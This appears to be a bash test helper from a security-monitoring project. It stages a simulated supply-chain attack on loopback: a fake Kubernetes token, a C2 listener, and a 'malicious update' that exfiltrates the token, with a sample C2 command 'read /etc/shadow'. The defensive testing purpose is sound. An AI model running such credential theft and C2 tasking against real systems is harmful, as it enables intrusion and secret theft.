# shellcheck shell=bash
# shellcheck disable=SC2034 # variables set here are read by the sourcing test
# SPDX-License-Identifier: Apache-2.0
#
# The founding demo's pieces for tests (seed 000; issue 6). Source after common.sh:
#
#   . "$TESTLIB/demo.sh"
#   requires_demo
#   demo_peers                       # tcp_echo + dns_server on loopback: DEMO_PEER, DEMO_DNS
#   demo_service_config "$TEST_TMP/svc.conf" "hello 1" 2
#   "$DEMO/service" "$TEST_TMP/svc.conf"           # the benign service (C)
#   demo_token                       # DEMO_TOKEN (path), DEMO_TOKEN_VALUE (its bytes)
#   demo_c2_start 3                  # C2 listener: DEMO_C2 (127.0.0.1:PORT), log $DEMO_C2_LOG
#   "$DEMO/update" -token "$DEMO_TOKEN" -c2 "$DEMO_C2" -n 3    # the malicious update (Go)
#   demo_c2_frames                   # frames the C2 received so far

DEMO_NAME=api.payments.internal

requires_demo()
{
	requires_progs
	[ -x "$DEMO/service" ] && [ -x "$DEMO/update" ] && [ -x "$DEMO/c2" ] ||
		skip "demo programs not built: run make progs"
}

# demo_peers: start the service's TCP peer and DNS responder (answers 127.0.0.1) on free
# loopback ports; sets DEMO_PEER and DEMO_DNS (IP:PORT); logs in $TEST_TMP/{peer,dns}.log.
demo_peers()
{
	spawn_server peer "$PROGS/tcp_echo" 0
	DEMO_PEER=127.0.0.1:$SERVER_PORT
	spawn_server dns "$PROGS/dns_server" 0 127.0.0.1
	DEMO_DNS=127.0.0.1:$SERVER_PORT
}

# demo_service_config FILE [MESSAGE [REQUESTS [DATAFILE [NAME]]]]: write the service's config
# for the peers started by demo_peers. Vary MESSAGE, REQUESTS and DATAFILE's content between
# benign runs; a different NAME is a new DNS name (a deviation).
demo_service_config()
{
	cat >"$1" <<EOF
# demo service configuration (tests/lib/demo.sh)
peer = $DEMO_PEER
dns = $DEMO_DNS
name = ${5:-$DEMO_NAME}
message = ${2:-hello from the service}
requests = ${3:-1}
${4:+data = $4}
EOF
}

# demo_token [DIR]: a fake Kubernetes service-account token at
# DIR/var/run/secrets/kubernetes.io/serviceaccount/token (DIR defaults to $TEST_TMP/root);
# sets DEMO_TOKEN and DEMO_TOKEN_VALUE (random each run, so it can be found in payloads).
demo_token()
{
	local dir=${1:-$TEST_TMP/root}/var/run/secrets/kubernetes.io/serviceaccount
	mkdir -p "$dir"
	DEMO_TOKEN_VALUE=eyJhbGciOiJSUzI1NiIsImtpZCI6InZpZ2lsIn0.$(head -c 24 /dev/urandom | base64 | tr '+/' '-_' | tr -d '=')
	printf '%s' "$DEMO_TOKEN_VALUE" >"$dir/token"
	chmod 0600 "$dir/token"
	DEMO_TOKEN=$dir/token
}

# demo_c2_start [N [IP [NETNS]]]: start the C2 listener on a free port of IP (default 127.0.0.1),
# inside network namespace NETNS if given (see new_netns), exiting after N frames (default 0:
# when the test ends); sets DEMO_C2 (IP:PORT), DEMO_C2_PORT and DEMO_C2_LOG. With DEMO_C2_CMD
# set (e.g. "read /etc/shadow"), the C2 answers the first beacon with that command, and the
# update reads that file and sends it at once (one more frame).
DEMO_C2_CMD=''
demo_c2_start()
{
	local ip=${2:-127.0.0.1}
	local c2=("$DEMO/c2" -listen "$ip:0" -n "${1:-0}" -cmd "$DEMO_C2_CMD")
	if [ -n "${3:-}" ]; then
		spawn_server c2 in_netns "$3" "${c2[@]}"
	else
		spawn_server c2 "${c2[@]}"
	fi
	DEMO_C2_PORT=$SERVER_PORT
	DEMO_C2=$ip:$SERVER_PORT
	DEMO_C2_LOG=$TEST_TMP/c2.log
}

# demo_c2_frames: how many frames the C2 listener has received.
demo_c2_frames() { json_count "$DEMO_C2_LOG"; }

_demo_c2_has() { [ "$(demo_c2_frames)" -ge "$1" ]; }

# demo_wait_frames N [SECS]: until the C2 has logged N frames (default 5 s), else fail. (The
# update finishes when it has the C2's reply, a moment before the C2 logs the frame.)
demo_wait_frames()
{
	wait_until "${2:-5}" _demo_c2_has "$1" || fail "C2 got $(demo_c2_frames) frames, want $1"
}
